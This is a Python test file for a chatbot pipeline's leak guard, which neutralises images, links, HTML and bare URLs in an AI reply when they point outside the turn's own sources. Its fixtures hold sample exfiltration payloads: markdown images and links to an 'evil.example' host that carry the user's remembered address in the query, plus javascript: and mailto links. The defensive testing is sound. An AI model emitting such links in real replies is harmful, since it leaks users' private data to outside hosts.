"""No data leaves through a rendered reply (pipeline/links.py): images, links, reference links,
HTML tags and bare URLs whose URL is not one of the turn's own sources are neutralised — the link
text and alt text stay, the URL goes; the person's own URL and a search result stay; a search
result that carries memory text goes."""
import asyncio
import logging

from pipeline.links import LinkRegel, entschaerfen
from pipeline.nodes import leckschutz
from core.state import (DraftRecord, KontextRecord, MemoryRecord, PairRecord, SachlageRecord, SessionTurn,
                            Stimulus, TurnState, UrteilRecord)
from tests.scripted_llm import ScriptedLLM, deps_for

ERINNERUNG = "Anna wohnt seit Mai in Leipzig am Markt."
EVIL = "https://evil.example/c?d=anna+wohnt+seit+mai"
TREFFER = "https://news.example/artikel?id=7"


def _regel(person=(), quellen=(TREFFER,), erinnerungen=(ERINNERUNG,)):
    return LinkRegel(list(person), list(quellen), list(erinnerungen))


def _clean(text, **kw):
    out, zahlen = entschaerfen(text, _regel(**kw))
    assert "evil" not in out and "anna+wohnt" not in out
    return out, zahlen


def test_inline_image_becomes_its_alt_text_or_goes():
    out, z = _clean(f"Schau mal! ![Katze]({EVIL}) Schoen, oder?")
    assert out == "Schau mal! Katze Schoen, oder?" and z["bild"] == 1 and z["fremde_url"] == 1
    out, _ = _clean(f"Hallo ![]({EVIL}).")
    assert out == "Hallo."
    out, _ = _clean(f'![x]( <{EVIL} mit leer> "Titel") und ![y](//evil.example/p?q=1)')
    assert out == "x und y"


def test_inline_link_keeps_its_text():
    out, z = _clean(f"Mehr dazu [hier]({EVIL} 'Titel') und [dort](javascript:alert(1)).")
    assert out == "Mehr dazu hier und dort." and z["link"] == 2
    out, _ = _clean(f"[![Bild]({EVIL})](https://evil.example/x)")
    assert out == "Bild"


def test_reference_images_and_links():
    text = (f"Hier ![Bild][b] und [Text][t] und [kurz].\n\n[b]: {EVIL}\n[t]: <https://evil.example/a b> \"T\"\n"
            f"[kurz]: https://evil.example/k")
    out, z = _clean(text)
    assert out == "Hier Bild und Text und kurz." and z["definition"] == 3 and z["bild"] == 1 and z["link"] == 2
    # a reference to a kept source stays as written
    out, z = entschaerfen(f"Siehe [Artikel][a].\n\n[a]: {TREFFER}", _regel())
    assert out == f"Siehe [Artikel][a].\n\n[a]: {TREFFER}" and not z


def test_html_img_and_other_tags():
    out, z = _clean(f'Ein Bild: <img src="{EVIL}" alt="Sonne"> und <a href="{EVIL}">Link</a> '
                    f"<img src=/api/v1/x>.")
    assert out == "Ein Bild: Sonne und Link." and z["html"] == 3
    out, _ = _clean('<div style="background:url(//evil.example/p?x=1)">Text</div>')
    assert out == "Text"


def test_autolinks_and_bare_urls():
    out, z = _clean(f"Klick <{EVIL}> oder {EVIL}, oder www.evil.example/x?d=1.")
    assert out == "Klick oder, oder."
    assert z["autolink"] == 1 and z["url"] == 2
    out, _ = _clean("Schreib mir: <mailto:a@evil.example?body=anna%20wohnt> und mailto:x@evil.example?body=1")
    assert out == "Schreib mir: und"


def test_own_sources_stay():
    text = f"Laut [dem Artikel]({TREFFER}) ist das so. ![Grafik]({TREFFER})"
    assert entschaerfen(text, _regel()) == (text, {})
    # the person's own URL, fragment and all, as he wrote it; a www. address he wrote
    person = ["Schau dir https://blog.example/post?x=1#teil an, und www.spiegel.de? Und https://a.example/b?c=1?"]
    text = ("Dein Link [https://blog.example/post?x=1#teil](https://blog.example/post?x=1#teil) und www.spiegel.de. "
            "Und [das](https://a.example/b?c=1).")
    assert entschaerfen(text, _regel(person=person)) == (text, {})
    # the same host with another query, another fragment, or more path is not his
    out, z = entschaerfen("[a](https://blog.example/post?x=2) [b](https://blog.example/post?x=1#anna) "
                          "[c](https://blog.example/post/weiter)", _regel(person=person))
    assert out == "a b c" and z["link"] == 3 and z["fragment"] == 1


def test_a_search_result_that_carries_memory_text_goes():
    quelle = "https://suche.example/q?text=anna+wohnt+seit+mai"
    out, z = entschaerfen(f"[Quelle]({quelle})", _regel(quellen=[quelle]))
    assert out == "Quelle" and z["erinnerung_in_url"] == 1
    # the person's own URL is his text, whatever the memory says
    assert entschaerfen(f"[da]({quelle})", _regel(person=[quelle], quellen=()))[1] == {}


def test_text_without_links_is_untouched():
    text = "Ein [Hinweis]: siehe unten.  Zwei Leerzeichen  bleiben.\n\n\n\nUnd [Klammern] auch."
    assert entschaerfen(text, _regel()) == (text, {})


def _state(reply, *, prompt="Was meinst du?", recherche=()):
    return TurnState(
        stimulus=Stimulus(user_id="u", character_id="nova", turn_id="t1", user_prompt=prompt),
        pair=PairRecord(character_name="Nova", mensch_kern=ERINNERUNG),
        memory=MemoryRecord(session_turns=[SessionTurn(rolle="user", sprecher="Ben", turn_id="t0",
                                                       inhalt="Kennst du https://a.example/x?y=1",
                                                       time="2026-01-01T00:00:00Z")]),
        kontext=KontextRecord(gedaechtnis_verfasser=ERINNERUNG),
        sachlage=SachlageRecord(objekte=[{"name": "Magnetar", "recherche": [{"url": TREFFER, "titel": "t"}]}]),
        draft=DraftRecord(reply=reply, model="scripted"), urteil=UrteilRecord(reply=reply))


def test_the_leak_guard_node_neutralises_and_logs_counts_not_urls(caplog):
    reply = (f"Klar! ![x](https://evil.example/p?d=Anna%20wohnt%20seit%20Mai) Lies [das]({TREFFER}) "
             "und [deins](https://a.example/x?y=1).")
    deps = deps_for(ScriptedLLM())
    with caplog.at_level(logging.WARNING, logger="novaberg.node.leckschutz"):
        out = asyncio.run(leckschutz.run(_state(reply), deps))
    assert out["urteil"].reply == f"Klar! x Lies [das]({TREFFER}) und [deins](https://a.example/x?y=1)."
    (rec,) = [r for r in caplog.records if "links_entschaerft" in r.getMessage()]
    assert "1 bild" in rec.getMessage() and "fremde_url 1" in rec.getMessage()
    assert "evil" not in caplog.text and "Anna" not in caplog.text
    (d,) = [r for r in deps.trace.decisions("leckschutz.links")]
    assert d.outcome == "entschaerft" and d.inputs["bild"] == 1 and "evil" not in str(d)


def test_a_reply_of_nothing_but_an_image_becomes_the_neutral_reply():
    out = asyncio.run(leckschutz.run(_state(f"![]({EVIL})"), deps_for(ScriptedLLM())))
    assert out["urteil"].reply == leckschutz.ERSATZ_ANTWORT


def test_a_clean_reply_passes_unchanged():
    assert asyncio.run(leckschutz.run(_state(f"Lies [das]({TREFFER})."), deps_for(ScriptedLLM()))) == {}
